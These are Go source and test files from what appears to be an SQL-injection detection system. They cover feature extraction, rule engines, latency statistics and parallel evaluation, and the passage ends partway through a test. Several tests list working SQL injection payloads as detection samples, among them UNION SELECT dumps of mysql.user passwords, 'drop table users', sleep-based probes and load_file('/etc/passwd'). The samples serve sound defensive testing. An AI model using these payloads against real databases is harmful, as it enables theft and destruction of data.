// parityPayloads mixes attack-shaped and benign-shaped samples so the
// sparse/dense extraction parity is exercised on realistic nonzero patterns.
var parityPayloads = []string{
	"",
	"id=1",
	"q=union+college+course+selection&page=2",
	normalize.Normalize("id=1%27%20UNION%20SELECT%20user,password%20FROM%20mysql.user%20WHERE%201=1--"),
	normalize.Normalize("?id=-1+union+select+1,2,3,4,concat(database(),char(58),user(),char(58),version()),6,7"),
	normalize.Normalize("name=admin'--&pass=x"),
	normalize.Normalize("s=1;drop table users;--"),
}

// TestSparseVectorMatchesVector checks that SparseVector returns exactly the
// nonzero cells of Vector, in ascending column order, for fixed payloads and
// for arbitrary strings.
func TestSparseVectorMatchesVector(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	check := func(sample string) bool {
		dense := ex.Vector(sample)
		cols, vals := ex.SparseVector(sample)
		if len(cols) != len(vals) {
			return false
		}
		k := 0
		for j, v := range dense {
			if v == 0 {
				continue
			}
			if k >= len(cols) || cols[k] != j || vals[k] != v {
				return false
			}
			k++
		}
		return k == len(cols)
	}
	for _, p := range parityPayloads {
		if !check(p) {
			t.Errorf("sparse/dense mismatch on %q", p)
		}
	}
	if err := quick.Check(check, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

// TestSparseMatrixMatchesMatrix checks that the CSR and dense training
// matrices agree cell for cell.
func TestSparseMatrixMatchesMatrix(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	dm, err := ex.Matrix(parityPayloads)
	if err != nil {
		t.Fatal(err)
	}
	sm, err := ex.SparseMatrix(parityPayloads)
	if err != nil {
		t.Fatal(err)
	}
	if sm.Rows() != dm.Rows() || sm.Cols() != dm.Cols() {
		t.Fatalf("shape mismatch: sparse %dx%d, dense %dx%d", sm.Rows(), sm.Cols(), dm.Rows(), dm.Cols())
	}
	for i := 0; i < dm.Rows(); i++ {
		for j := 0; j < dm.Cols(); j++ {
			if dm.At(i, j) != sm.At(i, j) {
				t.Fatalf("cell (%d,%d): dense %v, sparse %v", i, j, dm.At(i, j), sm.At(i, j))
			}
		}
	}
}

// TestVectorIntoReuse checks that a reused buffer produces the same vector
// as a fresh allocation, including clearing stale state.
func TestVectorIntoReuse(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]float64, ex.Set().Len())
	for i := range buf {
		buf[i] = 42 // stale garbage that VectorInto must clear
	}
	for _, p := range parityPayloads {
		want := ex.Vector(p)
		got := ex.VectorInto(p, buf)
		for j := range want {
			if got[j] != want[j] {
				t.Fatalf("VectorInto(%q)[%d] = %v, want %v", p, j, got[j], want[j])
			}
		}
	}
}
