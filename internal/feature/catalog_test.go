package feature

import (
	"regexp"
	"testing"
)

// TestCatalogIntegrity machine-checks what the catalog's header comment
// used to ask of maintainers: no entry may duplicate another, and every
// regex feature must compile the way the extractor compiles it — with
// the (?i) prefix. cmd/psigenelint layers the corpus-driven checks
// (nevermatch, subsumed) on top; this test is the dependency-free core
// that runs with the ordinary package tests.
func TestCatalogIntegrity(t *testing.T) {
	s := Catalog()

	seen := make(map[string]string) // literal -> feature name of first use
	for _, f := range s.Features {
		lit := f.Word
		if lit == "" {
			lit = f.Pattern
		}
		if first, dup := seen[lit]; dup {
			t.Errorf("feature %s duplicates %s: literal %q appears twice", f.Name, first, lit)
			continue
		}
		seen[lit] = f.Name

		if f.Pattern == "" {
			continue
		}
		if _, err := regexp.Compile("(?i)" + f.Pattern); err != nil {
			t.Errorf("feature %s: pattern %q does not compile under (?i): %v", f.Name, f.Pattern, err)
		}
	}
}
