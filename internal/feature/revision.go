package feature

import (
	"encoding/binary"
	"fmt"
	"hash/fnv"
)

// Revision fingerprints a feature set: an FNV-1a 64 hash over every
// feature's definition (name, source, word, pattern) in column order.
// Two sets with the same revision extract identical feature vectors, so
// model-artifact manifests record it to detect catalog drift between a
// model and the code that scores with it. The hash is a pure function of
// the definitions — no clock, no environment — so the same catalog
// always fingerprints to the same revision string.
func Revision(s Set) string {
	h := fnv.New64a()
	var n [8]byte
	word := func(x uint64) {
		binary.LittleEndian.PutUint64(n[:], x)
		_, _ = h.Write(n[:])
	}
	str := func(v string) {
		word(uint64(len(v)))
		_, _ = h.Write([]byte(v))
	}
	word(uint64(len(s.Features)))
	for _, f := range s.Features {
		str(f.Name)
		word(uint64(f.Source))
		str(f.Word)
		str(f.Pattern)
	}
	return fmt.Sprintf("%016x", h.Sum64())
}
