package feature

import (
	"strings"
	"testing"
	"testing/quick"

	"psigene/internal/matrix"
	"psigene/internal/normalize"
)

func newCatalogExtractor(t *testing.T) *Extractor {
	t.Helper()
	e, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatalf("NewExtractor(Catalog()): %v", err)
	}
	return e
}

func TestCatalogCensus(t *testing.T) {
	// The paper starts from 477 candidate features (§I, §II-B) across the
	// three Table II sources.
	s := Catalog()
	if got := s.Len(); got != 477 {
		t.Fatalf("catalog has %d features, want 477", got)
	}
	c := s.CountBySource()
	if c[SourceReservedWord] < 200 {
		t.Fatalf("reserved words: %d, want the MySQL 5.5 list (>=200)", c[SourceReservedWord])
	}
	if c[SourceSignature] == 0 || c[SourceReference] == 0 {
		t.Fatalf("census by source: %v — every source must contribute", c)
	}
	if c[SourceReservedWord]+c[SourceSignature]+c[SourceReference] != 477 {
		t.Fatalf("census does not add up: %v", c)
	}
}

func TestCatalogNamesUnique(t *testing.T) {
	seen := make(map[string]bool)
	for _, f := range Catalog().Features {
		if seen[f.Name] {
			t.Fatalf("duplicate feature name %q", f.Name)
		}
		seen[f.Name] = true
	}
}

func TestSourceString(t *testing.T) {
	if SourceReservedWord.String() == "" || Source(99).String() == "" {
		t.Fatal("Source.String must render all values")
	}
}

func TestVectorCountsWords(t *testing.T) {
	e := newCatalogExtractor(t)
	set := e.Set()
	col := map[string]int{}
	for j, f := range set.Features {
		col[f.Name] = j
	}
	v := e.Vector("id=1 union select password from users where user_id=1 or 1=1")
	if v[col["union"]] != 1 {
		t.Fatalf("union count=%v, want 1", v[col["union"]])
	}
	if v[col["select"]] != 1 {
		t.Fatalf("select count=%v", v[col["select"]])
	}
	if v[col["or"]] != 1 {
		t.Fatalf("or count=%v", v[col["or"]])
	}
	// "password" and "users" are not reserved words and must not count.
	if v[col["from"]] != 1 || v[col["where"]] != 1 {
		t.Fatal("from/where must count exactly once")
	}
}

func TestVectorWordBoundaries(t *testing.T) {
	e := newCatalogExtractor(t)
	col := map[string]int{}
	for j, f := range e.Set().Features {
		col[f.Name] = j
	}
	// "union" embedded in a larger token must not count.
	v := e.Vector("name=reunionparty&status=selected")
	if v[col["union"]] != 0 {
		t.Fatalf("embedded 'union' counted: %v", v[col["union"]])
	}
	if v[col["select"]] != 0 {
		t.Fatalf("embedded 'select' counted: %v", v[col["select"]])
	}
}

func TestVectorCountsRegexMatches(t *testing.T) {
	e := newCatalogExtractor(t)
	col := map[string]int{}
	for j, f := range e.Set().Features {
		col[f.Name] = j
	}
	v := e.Vector("a='x' or 'y'='y' -- comment")
	if v[col[`'`]] < 4 {
		t.Fatalf("quote count=%v, want >=4", v[col[`'`]])
	}
	if v[col[`--`]] != 1 {
		t.Fatalf("comment count=%v", v[col[`--`]])
	}
	// Case-insensitive matching on raw (non-normalized) text.
	v = e.Vector("1 UNION SELECT 2")
	if v[col[`union\s+select`]] != 1 {
		t.Fatalf("case-insensitive union select=%v", v[col[`union\s+select`]])
	}
}

func TestVectorPaperExample(t *testing.T) {
	// The §IV example: a sample with two char( occurrences.
	e := newCatalogExtractor(t)
	col := map[string]int{}
	for j, f := range e.Set().Features {
		col[f.Name] = j
	}
	sample := normalize.Normalize("?id=-1+union+select+1,2,3,4,concat(database(),char(58),user(),char(58),version()),6,7")
	v := e.Vector(sample)
	if got := v[col["char"]]; got != 2 {
		t.Fatalf("char word count=%v, want 2", got)
	}
	if got := v[col[`ch(a)?r\s*?\(\s*?\d`]]; got != 2 {
		t.Fatalf("ch(a)?r( pattern count=%v, want 2", got)
	}
	if v[col[`information_schema`]] != 0 {
		t.Fatal("information_schema must not match this sample")
	}
}

func TestNewExtractorErrors(t *testing.T) {
	cases := []Set{
		{Features: []Feature{{Name: "", Word: "x"}}},
		{Features: []Feature{{Name: "a", Word: "x"}, {Name: "a", Word: "y"}}},
		{Features: []Feature{{Name: "a", Word: "x", Pattern: "y"}}},
		{Features: []Feature{{Name: "a"}}},
		{Features: []Feature{{Name: "a", Pattern: "("}}},
	}
	for i, s := range cases {
		if _, err := NewExtractor(s); err == nil {
			t.Fatalf("case %d: want error", i)
		}
	}
}

func TestMatrixShape(t *testing.T) {
	e := newCatalogExtractor(t)
	samples := []string{"id=1", "id=1' or 1=1 --", "union select"}
	m, err := e.Matrix(samples)
	if err != nil {
		t.Fatal(err)
	}
	if m.Rows() != 3 || m.Cols() != 477 {
		t.Fatalf("matrix %dx%d", m.Rows(), m.Cols())
	}
}

func TestPruneUnobserved(t *testing.T) {
	set := Set{Features: []Feature{
		{Name: "w1", Word: "select"},
		{Name: "w2", Word: "zerofill"},
		{Name: "p1", Pattern: `--`},
	}}
	e, err := NewExtractor(set)
	if err != nil {
		t.Fatal(err)
	}
	m, err := e.Matrix([]string{"select 1 --", "select 2"})
	if err != nil {
		t.Fatal(err)
	}
	pm, ps, kept, err := PruneUnobserved(m, set)
	if err != nil {
		t.Fatal(err)
	}
	if ps.Len() != 2 || pm.Cols() != 2 {
		t.Fatalf("pruned to %d features, want 2", ps.Len())
	}
	if len(kept) != 2 || kept[0] != 0 || kept[1] != 2 {
		t.Fatalf("kept=%v, want [0 2]", kept)
	}
	for _, f := range ps.Features {
		if f.Name == "w2" {
			t.Fatal("unobserved feature w2 must be pruned")
		}
	}
}

func TestPruneUnobservedDimensionMismatch(t *testing.T) {
	m := matrix.MustNew(1, 3)
	if _, _, _, err := PruneUnobserved(m, Set{}); err == nil {
		t.Fatal("want error")
	}
}

func TestSetSelect(t *testing.T) {
	s := Set{Features: []Feature{{Name: "a", Word: "a"}, {Name: "b", Word: "b"}}}
	sub, err := s.Select([]int{1})
	if err != nil || sub.Len() != 1 || sub.Features[0].Name != "b" {
		t.Fatalf("Select: %v %+v", err, sub)
	}
	if _, err := s.Select([]int{2}); err == nil {
		t.Fatal("out of range: want error")
	}
}

func TestDedupe(t *testing.T) {
	u, w := Dedupe([]string{"a", "b", "a", "a", "c", "b"})
	if len(u) != 3 || u[0] != "a" || u[1] != "b" || u[2] != "c" {
		t.Fatalf("unique=%v", u)
	}
	if w[0] != 3 || w[1] != 2 || w[2] != 1 {
		t.Fatalf("weights=%v", w)
	}
}

func TestDedupeProperty(t *testing.T) {
	// Total weight equals input length; unique entries are distinct.
	f := func(xs []string) bool {
		u, w := Dedupe(xs)
		var total float64
		seen := map[string]bool{}
		for i, s := range u {
			if seen[s] {
				return false
			}
			seen[s] = true
			total += w[i]
		}
		return int(total) == len(xs)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestBinaryizeInPlace(t *testing.T) {
	m, _ := matrix.NewFromRows([][]float64{{0, 2, 5}, {1, 0, 3}})
	BinaryizeInPlace(m)
	want := [][]float64{{0, 1, 1}, {1, 0, 1}}
	for i := range want {
		for j := range want[i] {
			if m.At(i, j) != want[i][j] {
				t.Fatalf("cell (%d,%d)=%v", i, j, m.At(i, j))
			}
		}
	}
}

func TestAttackVsBenignSeparation(t *testing.T) {
	// Sanity: a classic injection lights up far more features than a benign
	// query with SQL-ish English words.
	e := newCatalogExtractor(t)
	attack := normalize.Normalize("id=1%27%20UNION%20SELECT%20user,password%20FROM%20mysql.user%20WHERE%201=1--")
	benign := normalize.Normalize("q=union+college+course+selection&page=2")
	nz := func(v []float64) int {
		var n int
		for _, x := range v {
			if x != 0 {
				n++
			}
		}
		return n
	}
	na, nb := nz(e.Vector(attack)), nz(e.Vector(benign))
	if na <= nb {
		t.Fatalf("attack lights %d features, benign %d — attack must dominate", na, nb)
	}
}

func TestVectorDeterministic(t *testing.T) {
	e := newCatalogExtractor(t)
	s := "id=1' or '1'='1"
	a, b := e.Vector(s), e.Vector(s)
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("Vector must be deterministic")
		}
	}
}

func TestCatalogPatternsMatchSomething(t *testing.T) {
	// Smoke check: a broad pile of known attack payloads should exercise a
	// sizable share of the signature/reference patterns.
	e := newCatalogExtractor(t)
	payloads := []string{
		"id=1' or 1=1 --",
		"id=1 union all select null,null,null from dual",
		"id=1; drop table users; --",
		"id=1 and sleep(5)",
		"id=1 and benchmark(5000000,md5('a'))",
		"id=extractvalue(1,concat(0x7e,version()))",
		"id=1' and updatexml(1,concat(0x7e,(select user())),1)--",
		"q=1 and substring(@@version,1,1)=5",
		"u=admin'-- &p=x",
		"id=-1 union select 1,concat(database(),char(58),user()),3 from information_schema.tables",
		"id=1'; waitfor delay '0:0:5'--",
		"id=(select count(*) from mysql.user)",
		"id=1 into outfile '/tmp/x'",
		"id=load_file('/etc/passwd')",
		"id=1 or 'a'='a",
		"s=%' or '1'='1",
		"id=0x414243",
		"id=1 group by x having 1=1",
		"id=1 procedure analyse()",
		"id=if(1=1,sleep(1),0)",
	}
	hit := make(map[int]bool)
	for _, p := range payloads {
		v := e.Vector(strings.ToLower(p))
		for j, x := range v {
			if x != 0 {
				hit[j] = true
			}
		}
	}
	var sigTotal, sigHit int
	for j, f := range e.Set().Features {
		if f.Source == SourceSignature || f.Source == SourceReference {
			sigTotal++
			if hit[j] {
				sigHit++
			}
		}
	}
	if frac := float64(sigHit) / float64(sigTotal); frac < 0.25 {
		t.Fatalf("only %.0f%% of non-word patterns fire on the smoke corpus (%d/%d)", frac*100, sigHit, sigTotal)
	}
}

func TestPruneDuplicateColumns(t *testing.T) {
	set := Set{Features: []Feature{
		{Name: "a", Word: "select"},
		{Name: "b", Pattern: `select`}, // same counts as "a" on these samples
		{Name: "c", Pattern: `--`},
	}}
	e, err := NewExtractor(set)
	if err != nil {
		t.Fatal(err)
	}
	m, err := e.Matrix([]string{"select 1 --", "select select"})
	if err != nil {
		t.Fatal(err)
	}
	pm, ps, kept, err := PruneDuplicateColumns(m, set)
	if err != nil {
		t.Fatal(err)
	}
	if ps.Len() != 2 || pm.Cols() != 2 {
		t.Fatalf("pruned to %d features, want 2 (a and c)", ps.Len())
	}
	if kept[0] != 0 || kept[1] != 2 {
		t.Fatalf("kept=%v, want [0 2] (first duplicate wins)", kept)
	}
}

func TestPruneDuplicateColumnsMismatch(t *testing.T) {
	m := matrix.MustNew(1, 3)
	if _, _, _, err := PruneDuplicateColumns(m, Set{}); err == nil {
		t.Fatal("want error")
	}
}
