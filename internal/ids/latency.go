package ids

import (
	"sort"
	"time"
)

// LatencyStats summarizes per-request scoring latency: how long
// Detector.Inspect took, per request, over an evaluation run. The
// percentiles are what the serving gateway's per-request deadline budget
// is grounded in — its scoring budget must sit comfortably above the
// measured p99 or healthy traffic gets cut off mid-score.
type LatencyStats struct {
	// Samples is the number of requests measured.
	Samples int
	// P50 and P99 are nearest-rank percentiles of per-request scoring
	// time; Max is the slowest single request.
	P50, P99, Max time.Duration
}

// SummarizeLatency computes LatencyStats over raw per-request durations.
// Percentiles use the nearest-rank definition (sorted[ceil(p/100·n)-1]),
// so every reported value is an actually observed duration. The input
// slice is not modified.
func SummarizeLatency(samples []time.Duration) LatencyStats {
	if len(samples) == 0 {
		return LatencyStats{}
	}
	sorted := append([]time.Duration(nil), samples...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	return LatencyStats{
		Samples: len(sorted),
		P50:     nearestRank(sorted, 50),
		P99:     nearestRank(sorted, 99),
		Max:     sorted[len(sorted)-1],
	}
}

// nearestRank returns the p-th percentile of an ascending-sorted slice:
// the smallest element with at least p% of the samples at or below it.
func nearestRank(sorted []time.Duration, p int) time.Duration {
	idx := (p*len(sorted) + 99) / 100 // ceil(p·n/100)
	if idx < 1 {
		idx = 1
	}
	if idx > len(sorted) {
		idx = len(sorted)
	}
	return sorted[idx-1]
}
