package ids

import (
	"testing"
	"time"

	"psigene/internal/ruleset"
)

func TestSummarizeLatency(t *testing.T) {
	ms := func(n int) time.Duration { return time.Duration(n) * time.Millisecond }
	cases := []struct {
		name    string
		samples []time.Duration
		want    LatencyStats
	}{
		{"empty", nil, LatencyStats{}},
		{"one", []time.Duration{ms(7)}, LatencyStats{Samples: 1, P50: ms(7), P99: ms(7), Max: ms(7)}},
		{"two", []time.Duration{ms(10), ms(2)}, LatencyStats{Samples: 2, P50: ms(2), P99: ms(10), Max: ms(10)}},
		{
			// 1..100ms: nearest-rank p50 is the 50th value, p99 the 99th.
			"hundred",
			func() []time.Duration {
				out := make([]time.Duration, 100)
				for i := range out {
					out[99-i] = ms(i + 1) // descending input: summarize must sort
				}
				return out
			}(),
			LatencyStats{Samples: 100, P50: ms(50), P99: ms(99), Max: ms(100)},
		},
	}
	for _, c := range cases {
		if got := SummarizeLatency(c.samples); got != c.want {
			t.Fatalf("%s: SummarizeLatency = %+v, want %+v", c.name, got, c.want)
		}
	}
}

func TestSummarizeLatencyDoesNotMutateInput(t *testing.T) {
	in := []time.Duration{3, 1, 2}
	SummarizeLatency(in)
	if in[0] != 3 || in[1] != 1 || in[2] != 2 {
		t.Fatalf("input reordered: %v", in)
	}
}

// TestEvaluateLatencySyntheticClock drives the core loop with a synthetic
// monotonic clock so the percentile plumbing is checked exactly: request i
// takes (i+1) clock ticks.
func TestEvaluateLatencySyntheticClock(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	reqs := mixedWorkload(100)

	var now time.Time
	tick := 0
	clock := func() time.Time {
		tick++
		now = now.Add(time.Duration(tick) * time.Microsecond)
		return now
	}
	// clock() is called twice per request and the k-th call advances the
	// clock k microseconds, so request i (calls 2i+1 and 2i+2) measures a
	// duration of 2i+2 µs: 2, 4, 6, ...
	r, lats := evaluate(e, reqs, clock)
	if len(lats) != len(reqs) {
		t.Fatalf("%d latency samples, want %d", len(lats), len(reqs))
	}
	for i, d := range lats {
		if want := time.Duration(2*i+2) * time.Microsecond; d != want {
			t.Fatalf("request %d: latency %v, want %v", i, d, want)
		}
	}
	sum := SummarizeLatency(lats)
	if sum.P50 != 100*time.Microsecond || sum.P99 != 198*time.Microsecond || sum.Max != 200*time.Microsecond {
		t.Fatalf("percentiles = %+v", sum)
	}
	if r.Confusion() != Evaluate(e, reqs).Confusion() {
		t.Fatal("synthetic clock changed the confusion counts")
	}
}

func TestEvaluatePopulatesLatency(t *testing.T) {
	e := mustEngine(t, ruleset.ModSecCRS(), Options{})
	reqs := mixedWorkload(200)
	r := Evaluate(e, reqs)
	if r.Latency.Samples != len(reqs) {
		t.Fatalf("Samples = %d, want %d", r.Latency.Samples, len(reqs))
	}
	if r.Latency.P50 < 0 || r.Latency.P50 > r.Latency.P99 || r.Latency.P99 > r.Latency.Max {
		t.Fatalf("percentile ordering violated: %+v", r.Latency)
	}
}

// TestScoringLatencyMeasured logs the measured scoring percentiles for
// EXPERIMENTS.md and the gateway's ScoreBudget default: run with -v to
// refresh the recorded numbers.
func TestScoringLatencyMeasured(t *testing.T) {
	e := mustEngine(t, ruleset.ModSecCRS(), Options{})
	reqs := mixedWorkload(2000)
	r := Evaluate(e, reqs)
	t.Logf("ModSecCRS scoring latency over %d requests: p50=%v p99=%v max=%v",
		r.Latency.Samples, r.Latency.P50, r.Latency.P99, r.Latency.Max)
	if r.Latency.Max <= 0 {
		t.Fatal("no latency measured")
	}
}
