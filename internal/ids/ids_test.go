package ids

import (
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/ruleset"
	"psigene/internal/traffic"
)

func mustEngine(t *testing.T, rs ruleset.Ruleset, opts Options) *RuleEngine {
	t.Helper()
	e, err := NewRuleEngine(rs, opts)
	if err != nil {
		t.Fatalf("NewRuleEngine(%s): %v", rs.Name, err)
	}
	return e
}

func attackReq(query string) httpx.Request {
	return httpx.Request{Method: "GET", Host: "victim", Path: "/view.php", RawQuery: query, Malicious: true}
}

func benignReq(query string) httpx.Request {
	return httpx.Request{Method: "GET", Host: "www", Path: "/search", RawQuery: query}
}

func TestDeterministicEngineAlerts(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	v := e.Inspect(attackReq("id=1+union+select+user,password+from+mysql.user"))
	if !v.Alert || len(v.Matched) == 0 {
		t.Fatalf("union select must alert: %+v", v)
	}
	v = e.Inspect(benignReq("q=cheap+flights&page=2"))
	if v.Alert {
		t.Fatalf("benign search alerted: %+v", v)
	}
}

func TestDeterministicEngineDecodesPayload(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	// URL-encoded tautology must still alert via the normalized view.
	v := e.Inspect(attackReq("id=1%27%20or%20%271%27%3D%271"))
	if !v.Alert {
		t.Fatal("encoded tautology must alert after normalization")
	}
}

func TestAnomalyScoringThreshold(t *testing.T) {
	e := mustEngine(t, ruleset.ModSecCRS(), Options{})
	// A strong injection scores well past the threshold.
	v := e.Inspect(attackReq("id=-1+union+select+1,concat(user(),0x3a,version()),3+from+information_schema.tables--+"))
	if !v.Alert || v.Score < 5 {
		t.Fatalf("union injection: %+v", v)
	}
	// A lone apostrophe in a name scores below the threshold.
	v = e.Inspect(benignReq("last=o%27brien&dept=news"))
	if v.Alert {
		t.Fatalf("apostrophe name alerted with score %d: %v", v.Score, v.Matched)
	}
}

func TestAnomalyScoreAccumulates(t *testing.T) {
	rs := ruleset.Ruleset{
		Name: "toy", Mode: ruleset.ModeAnomalyScoring, AnomalyThreshold: 5,
		Rules: []ruleset.Rule{
			{ID: "a", Kind: ruleset.MatchRegex, Target: ruleset.TargetPayload, Pattern: `union`, Enabled: true, Score: 3},
			{ID: "b", Kind: ruleset.MatchRegex, Target: ruleset.TargetPayload, Pattern: `select`, Enabled: true, Score: 3},
		},
	}
	e := mustEngine(t, rs, Options{})
	if v := e.Inspect(attackReq("id=union")); v.Alert {
		t.Fatalf("single match (score 3) must not alert: %+v", v)
	}
	if v := e.Inspect(attackReq("id=union+select")); !v.Alert || v.Score != 6 {
		t.Fatalf("two matches must alert with score 6: %+v", v)
	}
}

func TestIncludeDisabled(t *testing.T) {
	rs := ruleset.EmergingThreats()
	def := mustEngine(t, rs, Options{})
	if def.RuleCount() != 0 {
		t.Fatalf("ET default engine loaded %d rules, want 0 (all disabled)", def.RuleCount())
	}
	all := mustEngine(t, rs, Options{IncludeDisabled: true})
	if all.RuleCount() != 4231 {
		t.Fatalf("ET with disabled loaded %d rules, want 4231", all.RuleCount())
	}
}

func TestURITargetRules(t *testing.T) {
	rs := ruleset.Ruleset{
		Name: "toy", Mode: ruleset.ModeDeterministic,
		Rules: []ruleset.Rule{{
			ID: "uri1", Kind: ruleset.MatchRegex, Target: ruleset.TargetURI,
			Pattern: `/cart\.php\?.*id=[^&]*union`, Enabled: true,
		}},
	}
	e := mustEngine(t, rs, Options{})
	hit := httpx.Request{Path: "/cart.php", RawQuery: "id=1+union+select+1", Malicious: true}
	if !e.Inspect(hit).Alert {
		t.Fatal("URI rule must match path+query")
	}
	miss := httpx.Request{Path: "/other.php", RawQuery: "id=1+union+select+1", Malicious: true}
	if e.Inspect(miss).Alert {
		t.Fatal("URI rule must not match a different path")
	}
}

func TestNewRuleEngineErrors(t *testing.T) {
	bad := ruleset.Ruleset{Name: "x", Mode: ruleset.ModeDeterministic,
		Rules: []ruleset.Rule{{ID: "1", Kind: ruleset.MatchRegex, Pattern: "(", Enabled: true}}}
	if _, err := NewRuleEngine(bad, Options{}); err == nil {
		t.Fatal("bad regex: want error")
	}
	noThresh := ruleset.Ruleset{Name: "x", Mode: ruleset.ModeAnomalyScoring}
	if _, err := NewRuleEngine(noThresh, Options{}); err == nil {
		t.Fatal("scoring without threshold: want error")
	}
	unknownKind := ruleset.Ruleset{Name: "x", Mode: ruleset.ModeDeterministic,
		Rules: []ruleset.Rule{{ID: "1", Pattern: "a", Enabled: true}}}
	if _, err := NewRuleEngine(unknownKind, Options{}); err == nil {
		t.Fatal("unknown match kind: want error")
	}
}

func TestEvaluateCounts(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	reqs := []httpx.Request{
		attackReq("id=1'+or+'1'='1"), // TP
		attackReq("id=zzz"),          // FN (no injection markers)
		benignReq("q=union+college"), // TN or FP
		benignReq("q=hello"),         // TN
	}
	r := Evaluate(e, reqs)
	if r.TP != 1 || r.FN != 1 {
		t.Fatalf("eval=%+v", r)
	}
	if r.TP+r.FP+r.TN+r.FN != len(reqs) {
		t.Fatalf("counts do not sum: %+v", r)
	}
	if r.TPR() != 0.5 {
		t.Fatalf("TPR=%v", r.TPR())
	}
}

func TestEvalResultZeroDenominator(t *testing.T) {
	var r EvalResult
	if r.TPR() != 0 || r.FPR() != 0 {
		t.Fatal("zero denominators must yield zero rates")
	}
}

// TestEnginesOnGeneratedWorkload is an integration smoke test: every engine
// must detect a majority of generated attacks while keeping benign false
// positives rare.
func TestEnginesOnGeneratedWorkload(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.SQLMapProfile(), 1).Requests(400)
	benign := traffic.NewGenerator(2).Requests(400)
	reqs := append(append([]httpx.Request{}, attacks...), benign...)

	engines := []*RuleEngine{
		mustEngine(t, ruleset.Bro(), Options{}),
		mustEngine(t, ruleset.SnortET(), Options{IncludeDisabled: true}),
		mustEngine(t, ruleset.ModSecCRS(), Options{}),
	}
	for _, e := range engines {
		r := Evaluate(e, reqs)
		if r.TPR() < 0.5 {
			t.Errorf("%s: TPR=%.3f too low (%+v)", e.Name(), r.TPR(), r)
		}
		if r.FPR() > 0.05 {
			t.Errorf("%s: FPR=%.3f too high (%+v)", e.Name(), r.FPR(), r)
		}
	}
}
