package ids

import (
	"runtime"
	"sync"
	"time"

	"psigene/internal/httpx"
)

// ParallelEvaluate is the paper's future-work optimization delivered:
// "the signature matching is completely parallelizable — each parallel
// thread can match one signature and this functionality is inbuilt in Bro
// (Bro's cluster mode)". Requests are sharded across workers, each worker
// inspecting its share with the (read-only, goroutine-safe) detector, and
// the confusion counts are merged. Per-request scoring latencies are
// collected per worker and summarized over the whole stream, so the
// reported percentiles cover every request exactly once. workers <= 0
// uses GOMAXPROCS.
func ParallelEvaluate(d Detector, reqs []httpx.Request, workers int) EvalResult {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	// Guard against len(reqs) < workers: a ceil-sized chunking would hand
	// the first shards everything and leave trailing workers with empty —
	// or out-of-range — shards, so clamp first and then split balanced.
	if workers > len(reqs) {
		workers = len(reqs)
	}
	if workers <= 1 {
		return Evaluate(d, reqs)
	}

	results := make([]EvalResult, workers)
	latencies := make([][]time.Duration, workers)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		// Balanced split: shard w covers [w*n/workers, (w+1)*n/workers),
		// which is never empty once workers <= len(reqs).
		lo := w * len(reqs) / workers
		hi := (w + 1) * len(reqs) / workers
		wg.Add(1)
		go func(slot int, part []httpx.Request) {
			defer wg.Done()
			results[slot], latencies[slot] = evaluate(d, part, time.Now)
		}(w, reqs[lo:hi])
	}
	wg.Wait()

	var total EvalResult
	all := make([]time.Duration, 0, len(reqs))
	for w, r := range results {
		total.TP += r.TP
		total.FP += r.FP
		total.TN += r.TN
		total.FN += r.FN
		all = append(all, latencies[w]...)
	}
	total.Latency = SummarizeLatency(all)
	return total
}
