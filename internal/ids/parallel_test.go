package ids

import (
	"runtime"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/ruleset"
	"psigene/internal/traffic"
)

func mixedWorkload(n int) []httpx.Request {
	reqs := attackgen.NewGenerator(attackgen.SQLMapProfile(), 1).Requests(n / 2)
	return append(reqs, traffic.NewGenerator(2).Requests(n/2)...)
}

func TestParallelEvaluateMatchesSequential(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	reqs := mixedWorkload(600)
	seq := Evaluate(e, reqs)
	for _, workers := range []int{1, 2, 3, 8, 1000} {
		par := ParallelEvaluate(e, reqs, workers)
		if par.Confusion() != seq.Confusion() {
			t.Fatalf("workers=%d: %+v != sequential %+v", workers, par.Confusion(), seq.Confusion())
		}
		if par.Latency.Samples != len(reqs) {
			t.Fatalf("workers=%d: %d latency samples, want one per request (%d)", workers, par.Latency.Samples, len(reqs))
		}
	}
	// Default worker count.
	if par := ParallelEvaluate(e, reqs, 0); par.Confusion() != seq.Confusion() {
		t.Fatalf("default workers: %+v != %+v", par.Confusion(), seq.Confusion())
	}
}

// TestParallelEvaluateFewerRequestsThanWorkers pins the empty-shard guard:
// with len(reqs) < workers the worker count clamps to the request count and
// the balanced split leaves no shard empty, so the merged counts still
// match the serial evaluation exactly.
func TestParallelEvaluateFewerRequestsThanWorkers(t *testing.T) {
	e := mustEngine(t, ruleset.Snort(), Options{})
	all := mixedWorkload(10)
	for _, n := range []int{1, 2, 3, 5} {
		reqs := all[:n]
		seq := Evaluate(e, reqs)
		for _, workers := range []int{4, 8, 1000} {
			par := ParallelEvaluate(e, reqs, workers)
			if par.Confusion() != seq.Confusion() {
				t.Fatalf("n=%d workers=%d: %+v != sequential %+v", n, workers, par.Confusion(), seq.Confusion())
			}
		}
	}
}

func TestParallelEvaluateEmpty(t *testing.T) {
	e := mustEngine(t, ruleset.Bro(), Options{})
	r := ParallelEvaluate(e, nil, 4)
	if r != (EvalResult{}) {
		t.Fatalf("empty input: %+v", r)
	}
}

func TestParallelEvaluateRace(t *testing.T) {
	// Exercised under -race in CI: concurrent Inspect on a shared engine.
	e := mustEngine(t, ruleset.ModSecCRS(), Options{})
